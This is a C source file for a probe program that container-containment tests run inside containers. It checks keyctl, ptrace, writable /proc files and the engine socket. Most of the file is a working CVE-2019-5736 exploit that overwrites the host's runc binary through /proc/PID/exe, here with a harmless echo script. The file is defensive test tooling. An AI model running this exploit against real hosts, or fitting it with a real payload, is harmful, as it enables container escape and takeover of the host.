// A small static program the containment tests run inside containers, for what busybox cannot
// do: raw syscalls (keyctl, ptrace), opening files for writing without writing (so a wrongly
// writable /proc/sysrq-trigger is detected, never triggered), a unix socket client for the engine
// socket, and the CVE-2019-5736 attacker. Every outcome is printed as one line, errors by their
// errno name, so the test asserts on words rather than exit codes.
//
//   probe keyctl                       keyctl, add_key, request_key
//   probe ptrace PID                   PTRACE_ATTACH to PID (detached again if it worked)
//   probe openw PATH...                open(PATH, O_WRONLY) and close, nothing written
//   probe ping SOCKET                  connect to a unix socket, send GET /_ping, print the status line
//   probe exe-attack SECONDS STOPFILE  watch /proc for processes entering the container and try to
//                                      overwrite their executable through /proc/PID/exe (see below)
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *err(int e) {
  const char *name = strerrorname_np(e);
  return name ? name : "E?";
}

static void result(const char *what, long rc) {
  if (rc < 0) printf("%s: %s\n", what, err(errno));
  else printf("%s: ok\n", what);
}

static int keyctl_probe(void) {
  // KEYCTL_GET_KEYRING_ID (0) of the process keyring (-2), and a key in it: were they allowed,
  // both would go with this process.
  result("keyctl", syscall(SYS_keyctl, 0, -2, 1, 0, 0));
  result("add_key", syscall(SYS_add_key, "user", "berth-probe", "x", 1, -2));
  result("request_key", syscall(SYS_request_key, "user", "berth-probe", NULL, 0));
  return 0;
}

static int ptrace_probe(pid_t pid) {
  long rc = ptrace(PTRACE_ATTACH, pid, NULL, NULL);
  result("ptrace", rc);
  if (rc == 0) {
    waitpid(pid, NULL, __WALL);
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
  }
  return 0;
}

static int openw_probe(int n, char **paths) {
  for (int i = 0; i < n; i++) {
    int fd = open(paths[i], O_WRONLY | O_NOCTTY | O_CLOEXEC);
    result(paths[i], fd);
    if (fd >= 0) close(fd);
  }
  return 0;
}

static int ping_probe(const char *socket_path) {
  int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  struct sockaddr_un addr = {.sun_family = AF_UNIX};
  strncpy(addr.sun_path, socket_path, sizeof addr.sun_path - 1);
  if (connect(s, (struct sockaddr *)&addr, sizeof addr) < 0) {
    result("connect", -1);
    return 0;
  }
  printf("connect: ok\n");
  const char req[] = "GET /_ping HTTP/1.0\r\nHost: engine\r\n\r\n";
  if (write(s, req, sizeof req - 1) < 0) result("write", -1);
  char buf[512];
  ssize_t n = read(s, buf, sizeof buf - 1);
  if (n < 0) {
    result("read", -1);
    return 0;
  }
  buf[n] = 0;
  char *eol = strstr(buf, "\r\n");
  if (eol) *eol = 0;
  printf("status: %s\n", buf);
  return 0;
}

// The CVE-2019-5736 attack, from inside the container. When the runtime enters the container
// (`runc exec`, or an entrypoint that is /proc/self/exe), its process shows up in the container's
// /proc. A vulnerable runtime's /proc/PID/exe is the host's runc binary: the attacker opens it
// with O_PATH while the runtime runs (writing it then fails with ETXTBSY), and reopens it for
// writing through /proc/self/fd/N once the process is gone, overwriting the host binary. This
// does exactly that, for every process that appears and is not busybox or this probe, printing
// each step; "WROTE" would mean the binary was overwritten. It stops after SECONDS or once
// STOPFILE exists.
#define MAX_TRACKED 256
struct tracked {
  pid_t pid;
  int path_fd;
  char exe[256];
  int gone;
};

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

static const char PAYLOAD[] = "#!/bin/sh\necho overwritten by a container\n";

static void reopen_for_write(struct tracked *t) {
  char self[64];
  snprintf(self, sizeof self, "/proc/self/fd/%d", t->path_fd);
  int fd = open(self, O_WRONLY | O_TRUNC | O_CLOEXEC);
  if (fd < 0) {
    printf("pid %d reopen-write: %s\n", t->pid, err(errno));
    return;
  }
  printf("pid %d reopen-write: ok\n", t->pid);
  ssize_t n = write(fd, PAYLOAD, sizeof PAYLOAD - 1);
  if (n < 0) printf("pid %d write: %s\n", t->pid, err(errno));
  else printf("pid %d WROTE %zd bytes\n", t->pid, n);
  close(fd);
}

static int exe_attack(double seconds, const char *stopfile) {
  struct tracked seen[MAX_TRACKED];
  int nseen = 0;
  pid_t me = getpid();
  double end = now() + seconds;
  setvbuf(stdout, NULL, _IOLBF, 0);
  printf("attacker: watching\n");
  while (now() < end && access(stopfile, F_OK) != 0) {
    DIR *proc = opendir("/proc");
    if (!proc) return 1;
    struct dirent *d;
    while ((d = readdir(proc)) != NULL) {
      pid_t pid = (pid_t)atoi(d->d_name);
      if (pid <= 0 || pid == me) continue;
      struct tracked *t = NULL;
      for (int i = 0; i < nseen; i++)
        if (seen[i].pid == pid) t = &seen[i];
      char link[64], exe[256];
      snprintf(link, sizeof link, "/proc/%d/exe", pid);
      ssize_t n = readlink(link, exe, sizeof exe - 1);
      if (n < 0) {
        // Not dumpable (runc init while it sets the container up): reported once, looked at again.
        if (!t && errno != ENOENT && nseen < MAX_TRACKED) {
          t = &seen[nseen++];
          *t = (struct tracked){.pid = pid, .path_fd = -1};
          snprintf(t->exe, sizeof t->exe, "?");
          printf("pid %d exe-link: %s\n", pid, err(errno));
        }
        continue;
      }
      exe[n] = 0;
      if (t && strcmp(t->exe, exe) == 0) continue;
      if (!t) {
        if (nseen >= MAX_TRACKED) continue;
        t = &seen[nseen++];
        *t = (struct tracked){.pid = pid, .path_fd = -1};
      }
      snprintf(t->exe, sizeof t->exe, "%s", exe);
      printf("pid %d exe: %s\n", pid, exe);
      if (strcmp(exe, "/bin/busybox") == 0 || strcmp(exe, "/probe") == 0) continue;
      // A foreign binary: hold it, and try to write it while it runs.
      if (t->path_fd < 0) {
        t->path_fd = open(link, O_PATH | O_CLOEXEC);
        printf("pid %d open-path: %s\n", pid, t->path_fd < 0 ? err(errno) : "ok");
      }
      int fd = open(link, O_WRONLY | O_CLOEXEC);
      printf("pid %d open-write: %s\n", pid, fd < 0 ? err(errno) : "ok");
      if (fd >= 0) close(fd);
    }
    closedir(proc);
    // Processes that are gone: now the classic exploit reopens the held binary for writing.
    for (int i = 0; i < nseen; i++) {
      struct tracked *t = &seen[i];
      if (t->gone || t->path_fd < 0) continue;
      char dir[64];
      snprintf(dir, sizeof dir, "/proc/%d", t->pid);
      if (access(dir, F_OK) == 0) continue;
      t->gone = 1;
      reopen_for_write(t);
    }
  }
  for (int i = 0; i < nseen; i++)
    if (!seen[i].gone && seen[i].path_fd >= 0) reopen_for_write(&seen[i]);
  printf("attacker: done, %d processes seen\n", nseen);
  return 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc >= 2 && strcmp(argv[1], "keyctl") == 0) return keyctl_probe();
  if (argc == 3 && strcmp(argv[1], "ptrace") == 0) return ptrace_probe(atoi(argv[2]));
  if (argc >= 3 && strcmp(argv[1], "openw") == 0) return openw_probe(argc - 2, argv + 2);
  if (argc == 3 && strcmp(argv[1], "ping") == 0) return ping_probe(argv[2]);
  if (argc == 4 && strcmp(argv[1], "exe-attack") == 0) return exe_attack(atof(argv[2]), argv[3]);
  fprintf(stderr, "usage: probe keyctl | ptrace PID | openw PATH... | ping SOCKET | exe-attack SECONDS STOPFILE\n");
  return 2;
}
